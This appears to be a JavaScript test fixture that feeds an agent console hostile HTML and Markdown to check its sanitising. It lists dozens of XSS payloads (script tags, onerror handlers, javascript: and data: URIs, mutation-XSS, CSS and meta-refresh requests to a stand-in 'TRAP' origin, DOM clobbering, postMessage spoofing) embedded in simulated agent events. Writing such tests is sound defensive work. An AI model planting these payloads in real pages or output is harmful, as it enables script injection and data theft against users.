// What an agent that was turned against its reader would write. Everything
// here wants one of: run a script, ask another origin, leave the page, read or
// write what is the console's. `TRAP` stands for an origin that must not be asked.

/** HTML, as a kontask's output and inside of Markdown. */
export const html = [
  '<script>top.pwned = 1; fetch("TRAP/script"); alert(1)</script>',
  '<script src="TRAP/script.js"></script>',
  '<script type="module">import "TRAP/module.js"</script>',
  '<img src="TRAP/img.png" onerror="top.pwned=2; alert(2)">',
  '<img src=x onerror=alert(3)>',
  '<img srcset="TRAP/srcset.png 1x, TRAP/srcset2.png 2x" alt="">',
  '<picture><source srcset="TRAP/source.png"><img alt=""></picture>',
  '<svg onload="alert(4)"><script>alert(5)</script><animate onbegin="alert(6)" attributeName="x" dur="1s"/></svg>',
  '<svg><a xlink:href="javascript:alert(7)"><text y="20">click</text></a><image href="TRAP/svgimage.png"/><use href="TRAP/use.svg#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(8)&gt;"></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(9)">click me</a>',
  '<a href=" &#106;avascript:alert(10)">click me too</a>',
  '<a href="data:text/html,<script>alert(11)</script>" target="_top">data</a>',
  '<a href="TRAP/top" target="_top">leave</a>',
  '<a href="TRAP/ping" ping="TRAP/pinged">ping</a>',
  '<meta http-equiv="refresh" content="0;url=TRAP/refresh">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<base href="TRAP/base/"><img src="based.png" alt="">',
  '<link rel="stylesheet" href="TRAP/style.css"><link rel="preload" as="image" href="TRAP/preload.png"><link rel="dns-prefetch" href="TRAP">',
  '<style>@import "TRAP/import.css"; body{background:url(TRAP/bg.png)} @font-face{font-family:x;src:url(TRAP/font.woff)} *{font-family:x}</style>',
  '<div style="background:url(TRAP/inline.png); position:fixed; inset:0; z-index:99999">over all</div>',
  '<iframe src="TRAP/frame"></iframe><iframe srcdoc="<script>top.pwned=12;alert(12)</script>"></iframe>',
  '<object data="TRAP/object"></object><embed src="TRAP/embed"><applet code="TRAP/applet"></applet>',
  '<form action="TRAP/form" method="post"><input name="q" autofocus onfocus="alert(13)"><button>send</button></form>',
  '<button formaction="javascript:alert(14)">press</button><input type="image" src="TRAP/input.png">',
  '<video src="TRAP/video.mp4" autoplay poster="TRAP/poster.png" onerror="alert(15)"></video><audio src="TRAP/audio.mp3" autoplay></audio>',
  '<details open ontoggle="alert(16)"><summary>s</summary></details><marquee onstart="alert(17)">m</marquee>',
  '<body onload="alert(18)" onpageshow="alert(19)" background="TRAP/body.png">',
  '<script>parent.postMessage({type:"choose",choice:0},"*"); top.location="TRAP/navigate"; localStorage.setItem("pwned","1"); parent.document.title="pwned"</script>',
  '<a id="konlog" name="connection"></a><form name="document"><input name="cookie"></form><img name="getElementById">',
  '<textarea></textarea><template><img src=x onerror=alert(20)></template><noscript><p title="</noscript><img src=x onerror=alert(21)>"></noscript>',
  '<xmp><img src=x onerror=alert(22)></xmp><plaintext>',
];

/** Markdown; the HTML stands in it too. */
export const markdown = [
  '[link](javascript:alert(30)) [link](JaVaScRiPt:alert(31)) [link](data:text/html;base64,PHNjcmlwdD5hbGVydCgzMik8L3NjcmlwdD4=) [link](vbscript:x)',
  '[a]: javascript:alert(33)\n\n[a] and [b](<javascript:alert(34)>) and <javascript:alert(35)>',
  '![remote](TRAP/md.png) ![js](javascript:alert(36)) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDM3KSIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+)',
  '[![nested](TRAP/nested.png)](javascript:alert(38))',
  '```html\n<script>alert(39)</script>\n```\n\n```"><img src=x onerror=alert(40)>\ncode\n```',
  '`<img src=x onerror=alert(41)>` **<svg onload=alert(42)>** # <b onmouseover=alert(43)>b</b>',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(44)> | [x](javascript:alert(45)) |',
  '&lt;script&gt;alert(46)&lt;/script&gt; \\<script>alert(47)\\</script> <!-- --><script>alert(48)</script>',
  '<a href="TRAP/md-link" onclick="alert(49)" style="position:fixed;inset:0">all over</a>',
  '$$\\href{javascript:alert(50)}{x}$$ [x](//TRAPHOST/protocol-relative "title\\" onmouseover=\\"alert(51)")',
  ...html,
];

const breakout = '"><img src=x onerror=alert(60)><script>alert(61)</script>';

/** Events that have the corpus in every place where a console shows something. */
export function hostileEvents() {
  const events = [{ type: 'prompt', turn: 't1', data: { text: breakout + markdown[0], images: [{ url: 'javascript:alert(62)', contentType: 'image/png' }, { url: 'TRAP/prompt.png', contentType: 'image/png', bytes: 5 }, { sha256: breakout, contentType: breakout }] } }, { type: 'turn_start', turn: 't1', data: { prompt: breakout, agent: breakout } }];
  const add = (type, data, parent) => events.push({ type, turn: 't1', ...(parent && { parent }), data });
  add('session_init', { sessionId: breakout, model: breakout, cwd: breakout, tools: [breakout] });
  for (const text of markdown) {
    add('text_delta', { text: text.slice(0, 9) });
    add('text_delta', { text: text.slice(9) + '\n\n' });
    add('thinking_delta', { text: text + '\n\n' });
    add('tool_start', { id: 't' + events.length, name: breakout, input: { file_path: breakout, old_string: text, new_string: text + '!', command: text, url: 'javascript:alert(63)' } });
    add('tool_result', { id: 't' + (events.length - 1), output: text, isError: events.length % 2 === 0 });
  }
  add('tool_start', { id: 'img', name: 'Read', input: { file_path: 'x.svg' } });
  add('tool_result', { id: 'img', output: [{ type: 'image', source: { type: 'url', url: 'TRAP/tool.png' } }, { type: 'image', source: { type: 'base64', media_type: 'image/svg+xml', data: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(64)"/>').toString('base64') } }, { type: 'text', text: breakout }] });
  add('plan', { items: [{ text: breakout, status: breakout }, { content: html[3], status: 'completed' }] });
  add('task_start', { taskId: breakout, title: breakout + html[0], status: html[3] });
  add('error', { error: breakout + html[4], code: breakout });
  add('app.hostile', { html: html.join('') });
  add('permission_request', { requestId: 'q-1', tool: breakout, input: { command: html[0], description: markdown[1] }, options: [{ label: breakout, value: breakout }] });
  return events;
}

/** Lines of agents' own formats with the corpus in them. */
export function hostileLines() {
  const text = markdown.slice(0, 8).join('\n\n');
  return [
    { type: 'assistant', message: { role: 'assistant', content: [{ type: 'text', text }, { type: 'thinking', thinking: text }, { type: 'tool_use', id: 'tu1', name: breakout, input: { command: html[0] } }] } },
    { type: 'user', message: { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'tu1', content: text }] } },
    { type: 'item.completed', item: { id: 'i1', type: 'agent_message', text } },
    { type: breakout, subtype: html[3] },
  ];
}
